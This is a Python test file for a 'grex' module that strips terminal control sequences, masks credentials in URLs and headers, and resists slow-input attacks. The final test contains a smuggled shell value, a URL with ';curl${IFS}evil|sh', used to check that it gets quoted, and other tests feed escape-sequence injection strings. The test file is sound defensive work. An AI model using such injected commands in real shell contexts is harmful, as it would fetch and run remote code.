"""What is shown of other people's text: nothing that acts on a terminal, nothing that is secret."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grex.names import clean, redact, shown_argument


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain", "plain"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x9b31mred", "red"),
        ("\x1b]0;title\x07after", "after"),
        ("\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x1b]0;never ends", "0;never ends"),
        ("\x1b\x1b[31m[31m", "[31m"),
        ("\x1bcreset", "reset"),
        ("one\r\ntwo\tthree", "one two three"),
        ("line\u2028separator", "line separator"),
        ("nul\x00bell\x07del\x7f", "nulbelldel"),
        ("abc\u202edef\u2066", "abcdef"),
        ("lone \udcff surrogate", "lone \ufffd surrogate"),
        ("\ufeffmark", "mark"),
        ("käse 👩\u200d🚀", "käse 👩\u200d🚀"),
    ],
)
def test_nothing_that_acts_on_a_terminal_is_left(text: str, shown: str) -> None:
    assert clean(text) == shown


def test_long_text_is_cut_to_the_limit_with_an_ellipsis() -> None:
    assert clean("x" * 300) == "x" * 199 + "…"
    assert clean("abc", 3) == "abc"
    assert clean("abcd", 3) == "ab…"
    assert clean("abcd", 0) == ""


@given(st.text(alphabet=st.characters(), max_size=200), st.integers(0, 50))
def test_clean_text_is_short_printable_and_stays_as_it_is(text: str, limit: int) -> None:
    shown = clean(text, limit)
    assert len(shown) <= limit
    assert not any(ord(char) < 0x20 or 0x7F <= ord(char) < 0xA0 for char in shown)
    shown.encode()
    assert clean(shown, limit) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://user:secret@host/x", "https://***@host/x"),
        ("https://token@host/x.git", "https://***@host/x.git"),
        ("https://host/x@v2", "https://host/x@v2"),
        ("https://host:8080/x@v2", "https://host:8080/x@v2"),
        ("https://[::1]:80/x@v2", "https://[::1]:80/x@v2"),
        ("https://user:se@cret@host/x", "https://***@host/x"),
        ("https://user:se/cret@host/x", "https://***@host/x"),
        ("https://user:se?cr@et@host/x", "https://***@host/x"),
        ("https://user:12/34@host/x", "https://user:12/34@host/x"),  # a port and a path, as far as anyone can tell
        ("HTTPS://user:secret@host/x", "HTTPS://***@host/x"),
        ("git@host:org/x", "git@host:org/x"),
        ("ssh://git@host/x", "ssh://git@host/x"),
        ("ssh://git:secret@host/x", "ssh://***@host/x"),
        ("ssh://tok@en@host/x", "ssh://***@host/x"),
        ("git://token@host/x", "git://***@host/x"),
        ("user:secret@host/x", "***@host/x"),
        ("user:secret@host:x", "***@host:x"),
        (
            "fatal: unable to access 'https://u:p@h/x/': and https://t@h/",
            "fatal: unable to access 'https://***@h/x/': and https://***@h/",
        ),
        ("https://h/x?access_token=abc&a=1", "https://h/x?access_token=***&a=1"),
        ("https://h/x?a=1&X-Amz-Signature=abc", "https://h/x?a=1&X-Amz-Signature=***"),
        ("https://h/x?monkey=banana", "https://h/x?monkey=banana"),
        ("http.extraHeader=Authorization: Bearer abc.def", "http.extraHeader=Authorization: Bearer ***"),
        ("mail me@example.org at 10:30", "mail me@example.org at 10:30"),
        ("pack.yaml:3:5: no", "pack.yaml:3:5: no"),
        ("", ""),
    ],
)
def test_credentials_are_masked_and_nothing_else(text: str, shown: str) -> None:
    assert redact(text) == shown


# What may stand in a user or password without making the URL mean something else.
_SECRET = st.text(alphabet="abcXYZ0189-._~!$&'()*+,;=:@%", min_size=1, max_size=30)


@given(st.sampled_from(["https", "http", "git", "ftp"]), _SECRET, _SECRET, st.text(max_size=20))
def test_no_password_survives(scheme: str, user: str, password: str, around: str) -> None:
    marked = f"Q7{password}7Q"
    shown = redact(f"{around} {scheme}://{user}:{marked}@host/path")
    assert marked not in shown
    assert shown.endswith("host/path")


@given(st.text(alphabet=st.characters(), max_size=120))
def test_redacting_twice_changes_nothing(text: str) -> None:
    once = redact(text)
    assert redact(once) == once


@pytest.mark.parametrize(
    "piece",
    [
        "\x1b]",
        "\x1b[",
        "\x1b   ",
        "a://",
        "a://b:c/",
        "://x:y",
        "a:,",
        "a:b",
        "?token",
        "&key=",
        "authorization:",
        "a-",
        "@",
    ],
)
def test_text_made_to_be_slow_is_not(piece: str) -> None:
    text = piece * (200_000 // len(piece))
    started = time.process_time()
    clean(text)
    redact(text)
    assert time.process_time() - started < 5  # quadratic work on this much text takes minutes


def test_what_stands_in_a_hint_is_one_argument_to_a_shell() -> None:
    """A hint is made to be copied: a URL or branch of somebody else must not become a second command."""
    assert shown_argument("https://host/team/x") == "https://host/team/x"
    assert shown_argument("https://host/x;curl${IFS}evil|sh") == "'https://host/x;curl${IFS}evil|sh'"
    assert shown_argument("a\x1b[2Jb") == "ab"
